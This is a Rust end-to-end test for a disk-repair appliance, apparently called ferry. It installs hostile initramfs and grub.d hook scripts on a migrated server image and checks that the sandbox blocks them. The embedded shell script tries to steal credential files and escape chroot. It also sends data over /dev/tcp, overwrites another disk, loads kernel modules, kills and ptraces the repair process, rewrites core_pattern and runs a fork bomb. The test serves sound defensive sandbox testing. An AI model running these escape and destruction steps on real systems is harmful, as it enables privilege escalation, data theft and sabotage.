//! A hostile migrated server: its update-initramfs hook and an
//! /etc/grub.d script try, as root, to take the appliance that repairs it.
//! Every attempt fails, in its effect and not only in a message; the
//! repair still does its work, what the scripts printed is in the round's
//! report, and the disk boots.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use crate::common::boot::SourceImage;
use crate::common::layout::run;
use crate::common::serve::file_hash;
use ferry::cmd::Cmd;

const TOKEN: &str = "hostile-job-token-0123456789ab";
const CONTROL_TOKEN: &str = "hostile-control-token-0123456789";

/// What the scripts know of the appliance (as an attacker who has read
/// ferry's source and guessed its paths would).
struct Target<'a> {
    state: &'a Path,
    scratch: &'a Path,
    port: u16,
    other_loop: &'a str,
    other_devno: (u64, u64),
    ferry_pid: u32,
}

/// The attack, as a shell script run by the guest's own tools. `who`
/// names the record it leaves on the migrated root; `out` is where its
/// summary line goes (a grub.d script's stdout is grub.cfg).
fn attack(t: &Target, who: &str, out: &str) -> String {
    let (maj, min) = t.other_devno;
    format!(
        r#"#!/bin/sh
[ "$1" = prereqs ] && exit 0
rec=/var/log/ferry-hostile-{who}.txt
exec 3>>"$rec"
say() {{ echo "$*" >&3; }}
say "ran as uid $(id -u)"
# The appliance's state directory: tokens, TLS key, ledger.
for f in control-token token tls/key.pem; do
    if v=$(cat "{state}/$f" 2>&1); then say "read $f: $v"; else say "read $f: no"; fi
done
ls -la "{state}" >&3 2>&1
# The classic double chroot, and a note on the host's side if it worked.
perl -e '
    mkdir "/ferry-esc", 0700;
    if (!chroot "/ferry-esc") {{ print "chroot: $!\n"; exit 0 }}
    chdir ".." for 1..64;
    chroot ".";
    if (open(my $t, "<", "{state}/control-token")) {{ print "escaped: ", <$t>, "\n" }}
    if (open(my $m, ">", "{scratch}/escaped-{who}")) {{ print $m "out\n"; print "wrote on the host\n" }}
' >&3 2>&1
# The metadata service's stand-in: a listener on the appliance.
if bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}' 2>&3; then say "net: connected"; else say "net: no"; fi
# A disk that is not one of its targets.
if dd if=/dev/zero of={other} bs=4096 count=16 conv=notrunc,nocreat 2>&3; then say "dd {other}: yes"; else say "dd {other}: no"; fi
if mknod /ferry-other b {maj} {min} 2>&3; then
    if dd if=/dev/zero of=/ferry-other bs=4096 count=16 conv=notrunc 2>&3; then say "dd node: yes"; else say "dd node: no"; fi
    rm -f /ferry-other
else
    say "mknod: no"
fi
# A kernel module, a mount, tracing and killing ferry.
perl -e 'my ($m, $p) = ("\0" x 64, ""); syscall(175, $m, 64, $p); print "init_module: $!\n"' >&3 2>&1
perl -e 'my $p = ""; syscall(313, 0, $p, 0); print "finit_module: $!\n"' >&3 2>&1
if mount -t tmpfs none /mnt 2>&3; then say "mount: yes"; umount /mnt; else say "mount: no"; fi
perl -e 'syscall(101, 16, {pid}, 0, 0); print "ptrace: $!\n"' >&3 2>&1
if kill -9 {pid} 2>&3; then say "kill: yes"; else say "kill: no"; fi
if unshare -U -r true 2>&3; then say "unshare: yes"; else say "unshare: no"; fi
# The kernel's own settings: a core pattern or modprobe path is a program
# the kernel runs as the appliance's root.
if echo '|/ferry-pwn' > /proc/sys/kernel/core_pattern 2>&3; then say "sysctl: yes"; else say "sysctl: no"; fi
if echo h > /proc/sysrq-trigger 2>&3; then say "sysrq: yes"; else say "sysrq: no"; fi
# A fork bomb, bounded so that the tools can go on once it is cleared.
( i=0; while [ $i -lt 3000 ]; do sleep 600 >/dev/null 2>&1 </dev/null & i=$((i+1)); done ) 2>/dev/null
n=0
for p in /proc/[0-9]*; do read c < "$p/comm" 2>/dev/null && [ "$c" = sleep ] && n=$((n+1)) && kill -9 "${{p#/proc/}}"; done
say "fork bomb: $n"
say "done"
echo "ferry-hostile-{who}: done" >{out}
exit 0
"#,
        state = t.state.display(),
        scratch = t.scratch.display(),
        port = t.port,
        other = t.other_loop,
        pid = t.ferry_pid,
    )
}

fn install(root: &Path, rel: &str, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn a_hostile_guests_hooks_get_nothing_of_the_appliance_and_the_disk_still_boots() {
    need_root!("loop devices, mounts and QEMU");
    let src = SourceImage::build("bios-mbr").expect("building the source image");
    let dir = tempfile::tempdir().expect("scratch directory");
    let scratch = dir.path().to_owned();
    // The server's own copy: the cached image stays as it is.
    let disks: Vec<PathBuf> = src
        .disks
        .iter()
        .enumerate()
        .map(|(i, d)| {
            let c = scratch.join(format!("source-{i}.img"));
            run(Cmd::new("cp").arg("--sparse=always").arg(d).arg(&c));
            c
        })
        .collect();

    // Another disk on the appliance, and a listener standing for the
    // metadata service.
    let other = scratch.join("other.img");
    std::fs::write(&other, vec![0x5au8; 1 << 20]).unwrap();
    let other_loop = run(Cmd::new("losetup").args(["-f", "--show"]).arg(&other))
        .trim()
        .to_owned();
    let other_before = file_hash(Path::new(&other_loop));
    let devno = {
        use std::os::unix::fs::MetadataExt;
        let r = std::fs::metadata(&other_loop).unwrap().rdev();
        (nix::sys::stat::major(r), nix::sys::stat::minor(r))
    };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = Arc::new(AtomicUsize::new(0));
    {
        let accepted = accepted.clone();
        std::thread::spawn(move || {
            for c in listener.incoming() {
                let mut c = c.unwrap();
                let mut sink = Vec::new();
                let _ = c.read_to_end(&mut sink);
                accepted.fetch_add(1, Ordering::SeqCst);
            }
        });
    }

    let targets: Vec<PathBuf> = disks
        .iter()
        .enumerate()
        .map(|(i, s)| {
            let t = scratch.join(format!("target-{i}.img"));
            let f = std::fs::File::create(&t).unwrap();
            f.set_len(std::fs::metadata(s).unwrap().len()).unwrap();
            t
        })
        .collect();
    let mut server =
        crate::common::serve::Server::processing_onto(&scratch, &targets, TOKEN, CONTROL_TOKEN, "");
    let state = scratch.join("state");
    let t = Target {
        state: &state,
        scratch: &scratch,
        port,
        other_loop: &other_loop,
        other_devno: devno,
        ferry_pid: server.pid(),
    };
    crate::e2e::with_mounted(&disks, false, |root| {
        install(
            root,
            "etc/initramfs-tools/hooks/zz-ferry-hostile",
            &attack(&t, "initramfs", "/dev/stdout"),
        );
        install(
            root,
            "etc/grub.d/09_ferry_hostile",
            &attack(&t, "grub", "/dev/stderr"),
        );
    });

    let core_pattern = || std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let core_pattern_before = core_pattern();
    let d: Vec<&Path> = disks.iter().map(PathBuf::as_path).collect();
    let sent = server.send(&d, &[]);
    assert!(sent.ok(), "ferry send failed: {}", sent.stderr());
    let job = server.job();
    assert_eq!(job["state"], "Finished", "{job}");

    // What the scripts printed is in the round's report, by command.
    let repair: serde_json::Value = serde_json::from_slice(
        &std::fs::read(state.join("processing/repair.json")).expect("the repair report"),
    )
    .expect("repair JSON");
    let printed: Vec<String> = repair["steps"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["output"].as_array().cloned().unwrap_or_default())
        .map(|o| format!("{} {}", o["stdout"], o["stderr"]))
        .collect();
    for who in ["initramfs", "grub"] {
        assert!(
            printed
                .iter()
                .any(|p| p.contains(&format!("ferry-hostile-{who}: done"))),
            "{who}'s output in the report: {printed:?}"
        );
    }

    // The appliance is as it was: ferry alive, no connection, the other
    // disk's bytes, nothing written on the host.
    assert!(server.alive(), "ferry serve was killed");
    assert_eq!(
        core_pattern(),
        core_pattern_before,
        "the kernel's core pattern changed"
    );
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        0,
        "a connection reached the host"
    );
    assert_eq!(
        file_hash(Path::new(&other_loop)),
        other_before,
        "the other disk changed"
    );
    run(Cmd::new("losetup").args(["-d", &other_loop]));
    for who in ["initramfs", "grub"] {
        assert!(
            !scratch.join(format!("escaped-{who}")).exists(),
            "the {who} script wrote on the host"
        );
    }
    drop(server);

    // Each script ran to its end and its record, left on the migrated
    // root, shows every attempt refused.
    let records: Vec<String> = crate::e2e::with_mounted(&targets, true, |root| {
        ["initramfs", "grub"]
            .iter()
            .map(|who| {
                std::fs::read_to_string(root.join(format!("var/log/ferry-hostile-{who}.txt")))
                    .unwrap_or_else(|e| panic!("{who}'s record: {e}"))
            })
            .collect()
    });
    for r in &records {
        assert!(r.contains("done"), "{r}");
        assert!(
            !r.contains(TOKEN) && !r.contains(CONTROL_TOKEN),
            "a token leaked: {r}"
        );
        let dd = format!("dd {other_loop}: no");
        for line in [
            dd.as_str(),
            "read control-token: no",
            "read token: no",
            "read tls/key.pem: no",
            "chroot: Operation not permitted",
            "net: no",
            "mknod: no",
            "init_module: Operation not permitted",
            "finit_module: Operation not permitted",
            "mount: no",
            "ptrace: Operation not permitted",
            "kill: no",
            "unshare: no",
            "sysctl: no",
            "sysrq: no",
        ] {
            assert!(r.lines().any(|l| l == line), "{line:?} not in:\n{r}");
        }
        let bombed: u32 = r
            .lines()
            .find_map(|l| l.strip_prefix("fork bomb: "))
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("no fork bomb count in:\n{r}"));
        assert!(
            (100..ferry::sandbox::PIDS_MAX).contains(&bombed),
            "the fork bomb made {bombed} processes:\n{r}"
        );
    }

    crate::common::boot::boots_on_the_cloud(&src, targets, "hostile-virtio");
}
